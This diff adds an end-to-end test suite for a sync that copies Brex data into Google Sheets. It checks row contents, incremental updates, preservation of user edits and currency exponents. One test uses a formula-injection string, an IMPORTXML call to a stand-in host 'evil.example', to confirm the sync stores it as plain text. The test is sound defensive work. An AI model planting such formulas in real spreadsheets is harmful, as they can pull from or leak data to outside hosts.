@@ -1,0 +1,253 @@
+/**
+ * The refresh, end to end: dist/Code.js in the local Apps Script runtime against the Brex
+ * sandbox over loopback HTTP.
+ */
+import type { Sandbox } from '../../dev/sandbox';
+import type { Runtime } from '../../dev/runtime/runtime';
+import { sortRows } from '../../dev/runtime/workbook';
+import { control, refreshUntilDone, rowsOf, sheetOf, startWorld } from './support/sync-world';
+
+const EXPONENTS: Record<string, number> = { JPY: 0, KWD: 3 };
+type Money = { amount?: number; currency?: string | null } | null | undefined;
+
+/** An amount as Sheets should hold it: minor units over the currency's exponent. */
+function amount(money: Money): unknown {
+  if (!money || money.amount === undefined) return '';
+  return money.amount / 10 ** (EXPONENTS[money.currency ?? 'USD'] ?? 2);
+}
+
+let sandbox: Sandbox;
+let runtime: Runtime;
+
+function day(value: unknown): string {
+  if (!(value instanceof Date)) return String(value);
+  return new Intl.DateTimeFormat('en-CA', { timeZone: runtime.workbook.timeZone }).format(value);
+}
+
+beforeAll(async () => {
+  ({ sandbox, runtime } = await startWorld());
+});
+
+afterAll(async () => {
+  await sandbox.close();
+});
+
+describe('refresh in the local runtime against the sandbox', () => {
+  it('copies every data set exactly on the first sync', async () => {
+    const summary = await refreshUntilDone(runtime);
+    const state = sandbox.snapshot();
+
+    expect(summary.dataSets.filter((d) => d.state !== 'ok')).toEqual([]);
+    const cashTransactions = Object.values(state.cash_transactions).flat();
+    const cashStatements = Object.values(state.cash_statements).flat();
+    const expected: Record<string, string[]> = {
+      'Brex Departments': state.departments.map((d) => d.id),
+      'Brex Locations': state.locations.map((d) => d.id),
+      'Brex Users': state.users.map((d) => d.id),
+      'Brex Cards': state.cards.map((d) => d.id),
+      'Brex Spend Limits': state.spend_limits.map((d) => d.id),
+      'Brex Budgets': state.budgets.map((d) => d.budget_id),
+      'Brex Vendors': state.vendors.map((d) => d.id),
+      'Brex Accounts': [...state.card_accounts, ...state.cash_accounts].map((d) => d.id),
+      'Brex Statements': [...state.card_statements, ...cashStatements].map((d) => d.id),
+      'Brex Card Transactions': state.card_transactions.map((d) => d.id),
+      'Brex Cash Transactions': cashTransactions.map((d) => d.id),
+      'Brex Transfers': state.transfers.map((d) => d.id),
+      'Brex Expenses': state.expenses.map((d) => d.id),
+    };
+    for (const [sheet, ids] of Object.entries(expected)) {
+      expect([...rowsOf(runtime, sheet).keys()].sort()).toEqual([...ids].sort());
+    }
+
+    const cardRows = rowsOf(runtime, 'Brex Card Transactions');
+    for (const t of state.card_transactions) {
+      const row = cardRows.get(t.id);
+      expect([row?.Amount, row?.Currency, day(row?.['Posted date']), row?.Description]).toEqual([
+        amount(t.amount),
+        t.amount.currency ?? 'USD',
+        t.posted_at_date,
+        t.description,
+      ]);
+      expect(row?.['Expense ID']).toBe(t.expense_id ?? '');
+    }
+    const cashRows = rowsOf(runtime, 'Brex Cash Transactions');
+    for (const t of cashTransactions) {
+      expect([cashRows.get(t.id)?.Amount, day(cashRows.get(t.id)?.['Posted date'])]).toEqual([
+        amount(t.amount),
+        t.posted_at_date,
+      ]);
+    }
+    const expenseRows = rowsOf(runtime, 'Brex Expenses');
+    for (const e of state.expenses) {
+      const row = expenseRows.get(e.id);
+      expect([
+        row?.['Original amount'],
+        row?.['Original currency'],
+        row?.['Billing amount'],
+        row?.Status,
+        row?.['Payment status'],
+        row?.Memo,
+        (row?.['Updated at'] as Date).toISOString(),
+      ]).toEqual([
+        amount(e.original_amount),
+        e.original_amount?.currency ?? '',
+        amount(e.billing_amount),
+        e.status ?? '',
+        e.payment_status ?? '',
+        e.memo ?? '',
+        new Date(e.updated_at).toISOString(),
+      ]);
+    }
+    const limitRows = rowsOf(runtime, 'Brex Spend Limits');
+    for (const s of state.spend_limits) {
+      expect([limitRows.get(s.id)?.Name, limitRows.get(s.id)?.['Base limit']]).toEqual([
+        s.name,
+        amount(s.authorization_settings?.base_limit),
+      ]);
+    }
+    const userRows = rowsOf(runtime, 'Brex Users');
+    for (const u of state.users) {
+      expect([userRows.get(u.id)?.Name, userRows.get(u.id)?.Email]).toEqual([
+        `${u.first_name} ${u.last_name}`,
+        u.email,
+      ]);
+    }
+    const categories = rowsOf(runtime, 'Brex Expense Categories');
+    const counted = [...categories.values()].reduce((n, r) => n + Number(r['Expense count']), 0);
+    expect(counted).toBe(state.expenses.length);
+  });
+
+  it('touches only the 10 new transactions and the 3 changed expenses on the next refresh', async () => {
+    const cardsBefore = rowsOf(runtime, 'Brex Card Transactions');
+    const expensesBefore = rowsOf(runtime, 'Brex Expenses');
+    const added = (await control(sandbox, 'POST', '/card-transactions', {
+      count: 10,
+      date: '2026-03-15',
+    })) as {
+      items: { id: string }[];
+    };
+    const changedIds = sandbox
+      .snapshot()
+      .expenses.slice(5, 8)
+      .map((e) => e.id);
+    await control(sandbox, 'POST', '/expenses/touch', { ids: changedIds, memo: 'Changed in Brex' });
+    const writesBefore = runtime.stats.rangeWriteCells;
+
+    const result = await runtime.run('refreshNow', []);
+
+    const summary = result.value as {
+      done: boolean;
+      dataSets: { id: string; added: number; updated: number }[];
+    };
+    expect(summary.done).toBe(true);
+    const cardsAfter = rowsOf(runtime, 'Brex Card Transactions');
+    const expensesAfter = rowsOf(runtime, 'Brex Expenses');
+    expect(changedRows(cardsBefore, cardsAfter).sort()).toEqual(
+      added.items.map((t) => t.id).sort(),
+    );
+    const touched = changedRows(expensesBefore, expensesAfter);
+    expect(touched.filter((id) => !changedIds.includes(id))).toEqual(
+      // The new purchases come with their expenses.
+      touched.filter((id) => !expensesBefore.has(id)),
+    );
+    expect(changedIds.every((id) => touched.includes(id))).toBe(true);
+    expect(changedIds.every((id) => expensesAfter.get(id)?.Memo === 'Changed in Brex')).toBe(true);
+    const card = summary.dataSets.find((d) => d.id === 'card_transactions');
+    expect([card?.added, card?.updated]).toEqual([10, 0]);
+    expect(runtime.stats.rangeWriteCells - writesBefore).toBeGreaterThan(0);
+  });
+
+  it('writes no data cell when nothing changed in Brex', async () => {
+    const before = { ...runtime.stats };
+
+    const result = await runtime.run('refreshNow', []);
+
+    // One block: the run's rows in the Brex Sync Log sheet, nothing in a data sheet.
+    expect((result.value as { done: boolean }).done).toBe(true);
+    expect(result.stats.rangeWrites).toBe(1);
+    expect(runtime.stats.rangeWriteCells - before.rangeWriteCells).toBe(14 * 8);
+  });
+
+  it('keeps a person’s columns, notes and formulas through sorting and column reordering', async () => {
+    const sheet = sheetOf(runtime, 'Brex Card Transactions');
+    const header = sheet.rows[0] ?? [];
+    const width = header.length;
+    // A person adds a column with a note and a formula, sorts by amount and moves the id column last.
+    const firstIds = new Map<number, string>();
+    sheet.rows.forEach((cells, r) => {
+      if (r === 0) {
+        cells[width] = { value: 'My check' };
+        return;
+      }
+      firstIds.set(r, String(cells[0]?.value));
+      cells[width] = { formula: `=LEN(A${r + 1})`, value: 0, note: `note for ${cells[0]?.value}` };
+    });
+    const amountColumn = header.findIndex((c) => c?.value === 'Amount') + 1;
+    sortRows(sheet, { row: 2, column: 1, rows: sheet.rows.length - 1, columns: width + 1 }, [
+      { column: amountColumn, ascending: false },
+    ]);
+    for (const cells of sheet.rows) cells.push(cells.splice(0, 1)[0]);
+    const annotated = new Map(
+      sheet.rows.slice(1).map((cells) => [String(cells[width]?.value), cells[width - 1]?.note]),
+    );
+    await control(sandbox, 'POST', '/card-transactions', { count: 3, date: '2026-03-15' });
+
+    await refreshUntilDone(runtime);
+
+    const after = runtime.values('Brex Card Transactions');
+    const idColumn = (after[0] ?? []).indexOf('Brex ID');
+    const myColumn = (after[0] ?? []).indexOf('My check');
+    expect([idColumn, myColumn]).toEqual([width, width - 1]);
+    for (const cells of sheetOf(runtime, 'Brex Card Transactions').rows.slice(1)) {
+      const id = String(cells[idColumn]?.value);
+      if (!annotated.has(id)) continue;
+      expect(cells[myColumn]?.note).toBe(`note for ${id}`);
+      expect(cells[myColumn]?.formula).toMatch(/^=LEN\(A\d+\)$/);
+    }
+    const rows = rowsOf(runtime, 'Brex Card Transactions');
+    expect(rows.size).toBe(new Set([...annotated.keys(), ...rows.keys()]).size);
+  });
+
+  it('keeps formula-looking strings from Brex as text and shows JPY, USD and KWD amounts exactly', async () => {
+    const limits = sandbox.snapshot().spend_limits;
+    const yen = limits.find((s) => s.authorization_settings?.base_limit.currency === 'JPY');
+    const kwd = limits.find((s) => s.authorization_settings?.base_limit.currency === 'USD');
+    expect([yen, kwd].every(Boolean)).toBe(true);
+    const formula = '=IMPORTXML("http://evil.example","//a")';
+    await control(sandbox, 'PUT', `/spend_limits/${kwd?.id}`, {
+      name: formula,
+      authorization_settings: { base_limit: { amount: 1234567, currency: 'KWD' } },
+    });
+
+    await refreshUntilDone(runtime);
+
+    const sheet = sheetOf(runtime, 'Brex Spend Limits');
+    const header = (sheet.rows[0] ?? []).map((c) => c?.value);
+    const row = sheet.rows.find((cells) => cells[0]?.value === kwd?.id) ?? [];
+    const name = row[header.indexOf('Name')];
+    expect([name?.value, name?.formula]).toEqual([formula, undefined]);
+    const base = row[header.indexOf('Base limit')];
+    expect([base?.value, base?.format]).toEqual([1234.567, '#,##0.000']);
+    const yenRow = sheet.rows.find((cells) => cells[0]?.value === yen?.id) ?? [];
+    const yenBase = yenRow[header.indexOf('Base limit')];
+    expect([yenBase?.value, yenBase?.format]).toEqual([
+      yen?.authorization_settings?.base_limit.amount,
+      '#,##0',
+    ]);
+    const usd = rowsOf(runtime, 'Brex Card Transactions');
+    const cents = sandbox
+      .snapshot()
+      .card_transactions.find((t) => (t.amount.amount ?? 0) % 100 !== 0);
+    expect(cents?.amount.currency ?? 'USD').toBe('USD');
+    expect(usd.get(cents?.id ?? '')?.Amount).toBe(amount(cents?.amount));
+  });
+});
+
+function changedRows(
+  before: Map<string, Record<string, unknown>>,
+  after: Map<string, Record<string, unknown>>,
+): string[] {
+  const key = (row: Record<string, unknown> | undefined) =>
+    JSON.stringify(row, (_k, v) => (v instanceof Date ? v.toISOString() : v));
+  return [...after.keys()].filter((id) => key(before.get(id)) !== key(after.get(id)));
+}
